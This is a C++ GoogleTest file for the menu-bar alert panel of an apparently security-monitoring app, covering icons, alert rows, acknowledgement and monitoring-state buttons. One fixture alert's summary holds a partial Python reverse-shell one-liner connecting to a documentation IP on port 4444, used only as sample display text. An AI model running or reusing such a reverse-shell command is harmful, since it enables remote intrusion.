#include "Views/Monitor/MenuBarMonitorView.h"

#include "Services/AlertCenter.h"
#include "Services/LiveMonitor.h"
#include "Views/Components/Style.h"
#include "Views/Monitor/AlertRow.h"
#include "Views/Monitor/MenuBarIcon.h"
#include "Views/Monitor/MonitorStatusLine.h"

#include <QFile>
#include <QLabel>
#include <QLocale>
#include <QPushButton>
#include <QSettings>
#include <QTemporaryDir>

#include "support/FakeAlertPlatform.h"

#include <gtest/gtest.h>

namespace {

MonitorAlert alert(const std::string &rule, int64_t severity, bool acknowledged = false,
                   MonitorAlert::Kind kind = MonitorAlert::Kind::finding)
{
    MonitorAlert a;
    a.id = Uuid::random();
    a.kind = kind;
    a.rule = rule;
    a.severityRaw = severity;
    a.summary = rule + " summary";
    a.raisedAt = 1700000000;
    a.acknowledged = acknowledged;
    return a;
}

TEST(MenuBarIcon, SymbolPerState)
{
    struct Case {
        LiveMonitor::State state;
        int64_t unacknowledged;
        QString symbol;
    };
    const Case cases[] = {
        {LiveMonitor::Running{}, 1, "exclamationmark.shield.fill"},
        {LiveMonitor::Failed{"x"}, 3, "exclamationmark.shield.fill"},
        {LiveMonitor::Idle{}, 1, "exclamationmark.shield.fill"},
        {LiveMonitor::Running{}, 0, "checkmark.shield.fill"},
        {LiveMonitor::Idle{}, 0, "shield"},
        {LiveMonitor::Starting{}, 0, "shield"},
        {LiveMonitor::Failed{"x"}, 0, "xmark.shield"},
    };
    for (const Case &c : cases) {
        EXPECT_EQ(menuBarIconSymbol(c.state, c.unacknowledged), c.symbol);
        EXPECT_FALSE(menuBarIcon(c.state, c.unacknowledged).isNull());
    }
    EXPECT_STREQ(menuBarIconAccessibilityLabel, "Quillmarsh monitor");
}

TEST(AlertRowIcon, MonitorAlertsAndSeverities)
{
    struct Case {
        MonitorAlert alert;
        QString symbol;
        QColor color;
    };
    const Case cases[] = {
        // A finding alert wears its grade's colour, whose value the style's own table test holds.
        {alert("capture", 4, false, MonitorAlert::Kind::monitor), "bolt.horizontal.circle", Style::secondaryText()},
        {alert("i", 0), "info.circle", Style::severity(Severity::info).color},
        {alert("l", 1), "exclamationmark.circle", Style::severity(Severity::low).color},
        {alert("m", 2), "exclamationmark.triangle", Style::severity(Severity::medium).color},
        {alert("h", 3), "exclamationmark.triangle.fill", Style::severity(Severity::high).color},
        {alert("c", 4), "flame.fill", Style::severity(Severity::critical).color},
        {alert("odd", 9), "exclamationmark.triangle.fill", Style::severity(Severity::high).color},
    };
    for (const Case &c : cases) {
        const AlertIcon icon = alertIcon(c.alert);
        EXPECT_EQ(icon.symbol, c.symbol) << c.alert.rule;
        EXPECT_EQ(icon.color, c.color) << c.alert.rule;
    }
    QLocale::setDefault(QLocale(QLocale::English, QLocale::UnitedStates));
    EXPECT_EQ(alertRowTime(1700000000, true), "10:13 PM");
    EXPECT_EQ(alertRowTime(1700000000, false), "Nov 14, 10:13 PM");

    const AlertRow fresh(alert("Brute force", 3), true);
    EXPECT_TRUE(fresh.hasDot());
    EXPECT_EQ(fresh.ruleLabel()->font().weight(), Style::semibold(Style::callout()).weight());
    const AlertRow seen(alert("Brute force", 3, true), true);
    EXPECT_FALSE(seen.hasDot());
    EXPECT_EQ(seen.ruleLabel()->font().weight(), Style::callout().weight());
}

class MenuBarMonitorTest : public ::testing::Test, public FakeAlertPlatform {
protected:
    void SetUp() override
    {
        QLocale::setDefault(QLocale(QLocale::English, QLocale::UnitedStates));
        ASSERT_TRUE(dir.isValid());
        qputenv("QUILLMARSH_ALERTS_PATH", QFile::encodeName(dir.path() + "/alerts.json"));
        alerts = std::make_unique<AlertCenter>(platform());
    }

    MenuBarMonitorView &makePanel()
    {
        MenuBarMonitorView::Actions actions;
        actions.openApplication = [this] { calls << "open"; };
        actions.showMainWindow = [this](Screen screen) {
            calls << (screen == Screen::monitor ? "show monitor" : "show other");
            selectedWhenShown = alerts->selectedAlertID();
        };
        actions.quit = [this] { calls << "quit"; };
        panel = std::make_unique<MenuBarMonitorView>(&live, alerts.get(), actions);
        return *panel;
    }

    QStringList rowRules() const
    {
        QStringList rules;
        for (QPushButton *button : panel->alertButtons()) rules << button->findChild<AlertRow *>()->ruleLabel()->text();
        return rules;
    }

    QTemporaryDir dir;
    std::unique_ptr<AlertCenter> alerts;
    LiveMonitor live;
    QStringList calls;
    std::optional<Uuid> selectedWhenShown;
    std::unique_ptr<MenuBarMonitorView> panel;
};

TEST_F(MenuBarMonitorTest, RecentAlertsNewestSixAndAcknowledgeAll)
{
    MenuBarMonitorView &p = makePanel();
    EXPECT_FALSE(p.noAlertsLabel()->isHidden());
    EXPECT_TRUE(p.alertButtons().empty());

    std::vector<MonitorAlert> history;
    for (int i = 7; i >= 1; --i) history.push_back(alert("rule " + std::to_string(i), 3));
    alerts->setAlerts(history);
    EXPECT_TRUE(p.noAlertsLabel()->isHidden());
    EXPECT_EQ(rowRules(), (QStringList{"rule 7", "rule 6", "rule 5", "rule 4", "rule 3", "rule 2"}));
    EXPECT_FALSE(p.acknowledgeAllButton()->isHidden());
    p.acknowledgeAllButton()->click();
    EXPECT_EQ(alerts->unacknowledgedCount(), 0);
    EXPECT_TRUE(p.acknowledgeAllButton()->isHidden());
    EXPECT_EQ(p.alertButtons().size(), 6u); // the rows stay, without dots
    EXPECT_FALSE(p.alertButtons()[0]->findChild<AlertRow *>()->hasDot());
    EXPECT_EQ(menuBarIconSymbol(live.state(), alerts->unacknowledgedCount()), "shield");
}

TEST_F(MenuBarMonitorTest, RowClickSelectsTheAlertAndShowsTheMonitorWithoutAcknowledging)
{
    std::vector<MonitorAlert> history = {alert("Newest", 4), alert("Older", 3)};
    alerts->setAlerts(history);
    MenuBarMonitorView &p = makePanel();
    p.alertButtons()[1]->click();
    EXPECT_EQ(calls, QStringList{"show monitor"});
    EXPECT_EQ(selectedWhenShown, history[1].id);
    EXPECT_FALSE(alerts->alerts()[1].acknowledged);
}

TEST_F(MenuBarMonitorTest, BottomRowActions)
{
    MenuBarMonitorView &p = makePanel();
    p.openButton()->click();
    p.settingsButton()->click();
    p.quitButton()->click();
    EXPECT_EQ(calls, (QStringList{"open", "show monitor", "quit"}));
    EXPECT_EQ(p.openButton()->text(), "Open Quillmarsh");
    EXPECT_EQ(p.settingsButton()->text(), "Settings…");
    EXPECT_EQ(p.quitButton()->text(), "Quit");
}

TEST_F(MenuBarMonitorTest, CaptureButtonStatusAndSeverityPerState)
{
    MenuBarMonitorView &p = makePanel();
    EXPECT_EQ(p.captureButton()->text(), "Start Monitoring");
    EXPECT_EQ(p.captureButton()->property("symbol").toString(), "play.fill");
    EXPECT_EQ(p.statusLine()->text(), "Not monitoring");
    EXPECT_EQ(p.statusLine()->dotColor(), Style::gray());
    EXPECT_EQ(p.severityLabel()->text(), "Alerts: High+");

    live.setState(LiveMonitor::Starting{});
    EXPECT_EQ(p.captureButton()->text(), "Stop Monitoring");
    EXPECT_FALSE(p.captureButton()->isEnabled());
    EXPECT_EQ(p.statusLine()->text(), "Waiting for administrator authorisation…");
    EXPECT_EQ(p.statusLine()->dotColor(), Style::yellow());

    live.setState(LiveMonitor::Running{});
    EXPECT_TRUE(p.captureButton()->isEnabled());
    EXPECT_EQ(p.statusLine()->dotColor(), Style::green());
    p.captureButton()->click();
    EXPECT_TRUE(std::holds_alternative<LiveMonitor::Idle>(live.state()));

    live.setState(LiveMonitor::Failed{"Not authorized"});
    EXPECT_EQ(p.captureButton()->text(), "Start Monitoring");
    EXPECT_EQ(p.statusLine()->text(), "Not authorized");
    EXPECT_EQ(p.statusLine()->dotColor(), Style::red());

    for (const auto &[minimum, text] :
         {std::pair{Severity::critical, "Alerts: Critical"}, std::pair{Severity::high, "Alerts: High+"},
          std::pair{Severity::medium, "Alerts: High+"}, std::pair{Severity::info, "Alerts: High+"}}) {
        alerts->setMinimumSeverity(minimum);
        EXPECT_EQ(p.severityLabel()->text(), text);
    }
}

// For looking at: QUILLMARSH_GRAB_DIR=<folder> keeps the panel with alerts while running.
TEST_F(MenuBarMonitorTest, RendersThePanel)
{
    std::vector<MonitorAlert> history = {alert("Reverse shell pattern", 4), alert("Log erasure", 3),
                                         alert("Capture ended", 3, true, MonitorAlert::Kind::monitor)};
    history[0].summary = "python3 -c import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.23\",4444))";
    alerts->setAlerts(history);
    live.setState(LiveMonitor::Running{});
    MenuBarMonitorView &p = makePanel();
    p.adjustSize();
    const QImage image = p.grab().toImage();
    EXPECT_EQ(image.width(), MenuBarMonitorView::panelWidth);
    if (const QByteArray folder = qgetenv("QUILLMARSH_GRAB_DIR"); !folder.isEmpty())
        image.save(QString::fromLocal8Bit(folder) + "/menu-bar-panel.png");
    live.setState(LiveMonitor::Idle{});
}

} // namespace
